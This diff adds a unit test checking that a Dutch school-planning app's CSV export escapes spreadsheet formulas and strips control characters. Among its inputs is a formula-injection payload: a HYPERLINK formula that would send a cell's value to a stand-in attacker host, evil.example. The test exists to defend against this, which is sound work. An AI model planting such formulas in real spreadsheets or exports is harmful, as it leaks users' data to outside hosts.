@@ -117,3 +117,29 @@ TEST_CASE("export rows and CSV: every event, Dutch words, as Dutch Excel opens i
     odd.title = "Overleg; \"kort\"";
     CHECK(render_csv({odd}).find(";\"Overleg; \"\"kort\"\"\";") != std::string::npos);
 }
+
+TEST_CASE(
+    "CSV: a cell a spreadsheet would read as a formula is text, and no cell has a "
+    "control character",
+    "[unit][jaarplanning]") {
+    Year y;
+    EventRow odd = event_rows(y.plan, y.school).front();
+    for (const char* formula : {"=HYPERLINK(\"https://evil.example/?d=\"&A1,\"klik\")", "+1+2",
+                                "-2+3", "@SUM(A1)", "\t=1", "\r=1"}) {
+        odd.title = formula;
+        odd.owner = formula;
+        const std::string csv = render_csv({odd});
+        INFO(formula);
+        // Every such cell starts with an apostrophe (quoted or not).
+        CHECK(csv.find(";=") == std::string::npos);
+        CHECK(csv.find(";\"=") == std::string::npos);
+        CHECK(csv.find(";+") == std::string::npos);
+        CHECK(csv.find(";@") == std::string::npos);
+        CHECK((csv.find(";'") != std::string::npos || csv.find(";\"'") != std::string::npos));
+    }
+    odd.title = "Overleg\x1b[2J\x07\x7f";
+    odd.owner = "";
+    const std::string csv = render_csv({odd});
+    CHECK(csv.find(";Overleg[2J;") != std::string::npos);
+    for (char c : csv) CHECK_FALSE(((c >= 0 && c < 0x20 && c != '\r' && c != '\n') || c == 0x7f));
+}
